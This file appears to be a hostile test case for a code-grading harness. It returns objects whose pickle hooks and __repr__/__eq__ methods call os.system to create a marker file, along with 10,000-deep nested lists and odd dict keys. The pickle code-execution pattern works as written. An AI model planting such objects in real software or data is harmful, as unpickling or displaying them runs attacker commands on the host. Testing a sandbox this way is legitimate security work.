# HOSTILE base=solution
"""Attack A31: return values that are dangerous to deserialize or to look at: an object
whose __reduce__ runs a shell command (creates /tmp/HOSTILE-<nonce>-pickle-rce if it is
ever unpickled), a list nested 10 000 deep, a numpy object array holding that object, a
dict with non-string keys, a tensor subclass with its own __reduce_ex__ and a quantized
tensor."""
import os

import numpy as np
import torch

RCE = "touch /tmp/HOSTILE-@@NONCE@@-pickle-rce"


class Payload:
    def __reduce__(self):
        return (os.system, (RCE,))

    def __repr__(self):
        os.system(RCE)
        return "Payload()"

    def __eq__(self, other):
        os.system(RCE)
        return True


class EvilTensor(torch.Tensor):
    def __reduce_ex__(self, proto):
        return (os.system, (RCE,))


def sign(x):
    return Payload()


def greet(name, loud=False):
    deep = "WRONG"
    for _ in range(10_000):
        deep = [deep]
    return deep


def vector_add_loop(a, b):
    arr = np.empty(len(a), dtype=object)
    arr[:] = [Payload() for _ in a]
    return arr


def vector_add(a, b):
    return torch.quantize_per_tensor((a + b).float(), 0.1, 0, torch.qint8).as_subclass(EvilTensor)


class Know(Greeter):  # noqa: F821 (Greeter comes from the prepended solution)
    def meet(self):
        return {(1, 2): Payload(), frozenset({3}): "Nice to meet you!", None: b"bytes"}


print("HOSTILE-DONE unpicklable_return")
